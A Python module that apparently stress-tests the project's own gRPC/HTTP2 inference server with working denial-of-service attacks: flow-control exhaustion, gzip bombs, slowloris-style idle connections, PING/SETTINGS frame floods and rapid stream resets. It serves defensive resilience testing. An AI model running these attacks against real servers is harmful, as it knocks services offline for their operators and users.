"""The attackers of `attack`: one attack in a process of its own, which ends by itself.

`python attackers.py NAME TARGET`, the target as JSON (`Target`). It prints `ready`, waits for a line,
attacks for the target's seconds, and prints what became of it: a name and how often, as JSON. Whatever
shares its core goes first.
"""

from __future__ import annotations

import asyncio
import gzip
import json
import os
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Sequence
from contextlib import suppress
from typing import cast

import uvloop
from hostile import Link, connect
from mixed import mixed
from payload import STREAM, UNARY, make_request
from sending import PENDING, PIECE, Found, Target, ask, closed, message, whole, wide

from batcher.http2.sansio.frames import Error, Frame, frame
from batcher.protocol import inference

MIB = 1024**2
CLAIMED = 64 * MIB - 1024
"""Bytes of a message that is never sent whole."""

MOST_SENT = 2048 * MIB
"""The attack `credit` stops here, for the machine's sake."""

Attack = Callable[[Target, float], Awaitable[Found]]
"""Attacks until a moment of the monotonic clock, in seconds."""


async def credit(target: Target, until: float) -> Found:
    """Claim 64 messages of 64 MiB on each of 4 connections, and send of each what is granted but the end."""
    links = [await connect(target.grpc) for _ in range(4)]
    left: dict[tuple[Link, int], int] = {}
    for link in links:
        for _ in range(64):
            stream = link.begin(UNARY)
            link.data(stream, b"\0" + CLAIMED.to_bytes(4, "big"), end=False)
            left[link, stream] = CLAIMED - 1
    piece, sent = bytes(PIECE), 0
    while time.monotonic() < until:
        moved = 0
        for (link, stream), open_bytes in left.items():
            size = min(link.room(stream), open_bytes, PIECE)
            if size and not link.gone and link.pending() < PENDING and sent + moved < MOST_SENT:
                link.data(stream, piece[:size], end=False)
                left[link, stream] -= size
                moved += size
        sent += moved
        await asyncio.sleep(0 if moved else 0.02)
    return closed(links) + Counter({"MiB sent": sent // MIB})


async def slow_readers(target: Target, until: float) -> Found:
    """Ask for answers of 4 MB, as calls and on streams, and read none: with windows of 0, and with large ones on a socket that is not read."""
    request = message(wide(1))
    links = [await connect(target.grpc, window=window) for window in (0, 0, 2**30, 2**30)]
    for link in links[2:]:
        link.pause()
    sent = await asyncio.gather(
        _calls(links[0], request, until),
        _calls(links[2], request, until),
        _stream(links[1], request, until),
        _stream(links[3], request, until),
    )
    await _until(until)
    return closed(links) + Counter({"requests of 4 MB sent": sum(sent)})


async def _calls(link: Link, request: bytes, until: float, most: int = 100) -> int:
    for count in range(most):
        stream = link.begin(UNARY)
        if link.gone or not await whole(link, stream, request, until):
            return count
        link.data(stream, b"", end=True)
    return most


async def _stream(link: Link, request: bytes, until: float, most: int = 100) -> int:
    stream = link.begin(STREAM)
    for count in range(most):
        if link.gone or not await whole(link, stream, request, until):
            return count
    return most


async def inflation(target: Target, until: float) -> Found:
    """65 KB of gzip that hold 64 MB, one after the other on 4 connections, half of them for a model that is not there."""
    requests = [
        message(gzip.compress(payload), compressed=True)
        for payload in (wide(16), wide(16).replace(b"wide", b"none", 1))
    ]
    encoding = ("grpc-encoding", "gzip")
    return await _in_turn(target, until, 4, requests, [encoding])


async def classification(target: Target, until: float) -> Found:
    """The first three classes of rows with a million values, 8 rows a request, on 2 connections."""
    return await _in_turn(target, until, 2, [message(wide(8, classes=3))])


async def _in_turn(
    target: Target,
    until: float,
    connections: int,
    requests: Sequence[bytes],
    headers: Sequence[tuple[str, str]] = (),
) -> Found:
    """On each connection one call after the other."""

    async def caller(request: bytes) -> list[Link]:
        links = []
        while time.monotonic() < until:
            link = await connect(target.grpc, window=2**30)
            links.append(link)
            while time.monotonic() < until and not link.gone:
                ended = link.ended
                await ask(link, request, until, *headers)
                while link.ended == ended and not link.gone and time.monotonic() < until:
                    await link.changed(0.05)
        return links

    callers = (caller(requests[number % len(requests)]) for number in range(connections))
    return closed([link for links in await asyncio.gather(*callers) for link in links])


async def idle(target: Target, until: float) -> Found:
    """320 connections to gRPC that are silent, sent the preface alone, or stop within a header block.

    And 128 to HTTP, half of them silent, half with half a request.
    """
    links = []
    for number in range(320):
        with suppress(OSError):
            link = await connect(target.grpc, preface=number % 3 > 0)
            if number % 3 == 2:
                await link.changed(0.1)  # no acknowledgement is to come within the block
                link.write(frame(Frame.HEADERS, 0, 1, b"\x83"))
            links.append(link)
    waiting = []
    for number in range(128):
        with suppress(OSError):
            host, _, port = target.http.rpartition(":")
            _, writer = await asyncio.open_connection(host, int(port))
            writer.write(b"GET /metrics HTTP/1.1\r\nhost: a" if number % 2 else b"")
            waiting.append(writer)
    await _until(until)
    still = sum(not writer.transport.is_closing() for writer in waiting)
    for writer in waiting:
        writer.transport.abort()
    return closed(links) + Counter({"HTTP connections held to the end": still})


def floods() -> dict[str, bytes]:
    """Frames that cost their sender nothing, by what they are; stream 1 is open."""
    return {
        "PING": frame(Frame.PING, 0, 0, bytes(8)),
        "PING ACK": frame(Frame.PING, 1, 0, bytes(8)),
        "SETTINGS": frame(Frame.SETTINGS, 0, 0),
        "SETTINGS ACK": frame(Frame.SETTINGS, 1, 0),
        "empty DATA": frame(Frame.DATA, 0, 1),
        "WINDOW_UPDATE": frame(Frame.WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")),
        "PRIORITY": frame(Frame.PRIORITY, 0, 1, bytes(5)),
        "unknown frames": frame(cast("Frame", 0x77), 0, 0),
        "RST_STREAM": frame(Frame.RST_STREAM, 0, 1, bytes(4)),
    }


async def pings(target: Target, until: float) -> Found:
    """One connection for each flood, made again whenever the server ends it."""

    async def flood(frames: bytes) -> list[Link]:
        block = frames * (PIECE // 8 // len(frames))
        links = []
        while time.monotonic() < until:
            link = await connect(target.grpc)
            link.begin(UNARY)
            links.append(link)
            while not link.gone and time.monotonic() < until:
                if link.pending() < PIECE:
                    link.write(block)
                    await asyncio.sleep(0)
                else:
                    await link.changed(0.01)
        return links

    found = await asyncio.gather(*map(flood, floods().values()))
    return closed([link for links in found for link in links])


async def resets(target: Target, until: float) -> Found:
    """Calls that are reset at once, as fast as they can be sent; then 20 messages of 60 MB on streams that are reset once they are sent."""
    half = until - target.seconds / 2
    request = message(make_request("hello", 16))
    links = []
    while time.monotonic() < half:
        link = await connect(target.grpc)
        links.append(link)
        while not link.gone and time.monotonic() < half:
            for _ in range(50):
                stream = link.begin(UNARY)
                if link.room(stream) >= len(request):
                    link.data(stream, request, end=True)
                link.reset(stream, Error.CANCEL)
            await link.changed(0.01 if link.pending() > PIECE else 0)
    large = message(wide(15))
    link = await connect(target.grpc)
    links.append(link)
    done = 0
    while done < 20 and not link.gone and time.monotonic() < until:
        stream = link.begin(STREAM)
        done += await whole(link, stream, large, until)
        link.reset(stream, Error.CANCEL)
    return closed(links) + Counter({"messages of 60 MB reset": done})


async def groups(target: Target, until: float) -> Found:
    """400 requests a second for the model of the others, each with a `trace_id` of its own."""
    links = [await connect(target.grpc, window=2**30) for _ in range(2)]
    request = inference.ModelInferRequest.FromString(make_request("hello", 16))
    number = 0
    while time.monotonic() < until:
        for _ in range(20):
            number += 1
            request.parameters["trace_id"].string_param = f"{number:032x}"
            link = links[number % 2]
            if not link.gone:
                await ask(link, message(request.SerializeToString()), until)
        await asyncio.sleep(0.05)
    return closed(links)


async def _until(moment: float) -> None:
    await asyncio.sleep(max(0.0, moment - time.monotonic()))


ATTACKS: dict[str, Attack] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        credit,
        slow_readers,
        inflation,
        classification,
        idle,
        pings,
        resets,
        groups,
    )
}


async def run(attack: Attack, target: Target) -> Found:
    """That attack, from the moment that a line comes."""
    print("ready", flush=True)
    await asyncio.to_thread(sys.stdin.readline)
    until = time.monotonic() + target.seconds
    try:
        async with asyncio.timeout(target.seconds + 1):
            return await attack(target, until)
    except OSError as error:
        return Counter({f"attack ended: {type(error).__name__}": 1})
    except TimeoutError:
        return Counter({"attack ended: it had not by itself": 1})


def main() -> None:
    """One attack."""
    name, target = sys.argv[1:]
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    attack = mixed if name == mixed.__name__ else ATTACKS[name]
    print(json.dumps(uvloop.run(run(attack, Target(**json.loads(target))))))


if __name__ == "__main__":
    main()
